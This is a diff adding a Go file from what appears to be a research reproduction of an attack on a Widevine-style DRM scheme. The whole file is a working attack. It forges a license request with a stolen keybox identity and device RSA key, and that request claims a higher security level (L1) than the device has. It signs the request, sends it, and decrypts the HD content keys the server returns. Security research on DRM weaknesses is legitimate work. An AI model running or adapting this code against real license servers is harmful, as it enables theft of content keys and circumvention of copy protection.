@@ -1,0 +1,85 @@
+package attack
+
+import (
+	"crypto/rsa"
+	"fmt"
+	"io"
+
+	"repro/internal/cdm"
+	"repro/internal/cenc"
+	"repro/internal/keybox"
+	"repro/internal/wvcrypto"
+)
+
+// ForgeryResult is what a forged license exchange yields.
+type ForgeryResult struct {
+	// Keys are the content keys recovered from the forged exchange.
+	Keys map[[16]byte][]byte
+}
+
+// SendLicense delivers a signed request to an OTT license endpoint and
+// returns its response (the caller binds it to the simulated network).
+type SendLicense func(*cdm.SignedLicenseRequest) (*cdm.LicenseResponse, error)
+
+// ForgeLicenseExchange implements the paper's §V-C future-work experiment
+// (the netflix-1080p trick, adapted to Android): with the recovered keybox
+// identity and Device RSA key, an attacker no longer needs the CDM at all —
+// it forges a license request CLAIMING any security level and CDM version,
+// signs it itself, and unwraps the granted keys itself.
+//
+// Against a server that trusts the self-declared level (all of them — there
+// is no attestation in the protocol), claiming "L1" from a broken L3 device
+// yields the HD content keys the real device was never granted.
+func ForgeLicenseExchange(kb *keybox.Keybox, rsaKey *rsa.PrivateKey, contentID, claimLevel, claimCDMVersion string, rand io.Reader, send SendLicense) (*ForgeryResult, error) {
+	nonce := make([]byte, 16)
+	if _, err := io.ReadFull(rand, nonce); err != nil {
+		return nil, fmt.Errorf("attack: forge nonce: %w", err)
+	}
+	req := &cdm.LicenseRequest{
+		StableID:   kb.StableIDString(),
+		SystemID:   kb.SystemID(),
+		CDMVersion: claimCDMVersion,
+		Level:      claimLevel,
+		ContentID:  contentID,
+		Nonce:      nonce,
+	}
+	body, err := req.Canonical()
+	if err != nil {
+		return nil, err
+	}
+	sig, err := wvcrypto.SignPSS(rand, rsaKey, body)
+	if err != nil {
+		return nil, fmt.Errorf("attack: forge signature: %w", err)
+	}
+	signed := &cdm.SignedLicenseRequest{Body: body, Signature: sig}
+
+	resp, err := send(signed)
+	if err != nil {
+		return nil, fmt.Errorf("attack: forged exchange: %w", err)
+	}
+
+	// The attacker plays the CDM's half of the ladder with the stolen key.
+	sessionKey, err := wvcrypto.DecryptOAEP(rsaKey, resp.EncSessionKey)
+	if err != nil {
+		return nil, fmt.Errorf("attack: unwrap forged session key: %w", err)
+	}
+	derived, err := wvcrypto.DeriveSessionKeys(sessionKey, body)
+	if err != nil {
+		return nil, fmt.Errorf("attack: derive forged keys: %w", err)
+	}
+	if !wvcrypto.VerifyHMACSHA256(derived.MACServer, resp.Message, resp.MAC) {
+		return nil, fmt.Errorf("attack: forged response MAC invalid")
+	}
+	out := &ForgeryResult{Keys: make(map[[16]byte][]byte, len(resp.Keys))}
+	for _, ek := range resp.Keys {
+		key, err := wvcrypto.DecryptCBC(derived.Enc, ek.IV[:], ek.Payload)
+		if err != nil || len(key) != cenc.KeySize {
+			continue
+		}
+		out.Keys[ek.KID] = key
+	}
+	if len(out.Keys) == 0 {
+		return nil, fmt.Errorf("attack: forged exchange granted no keys")
+	}
+	return out, nil
+}
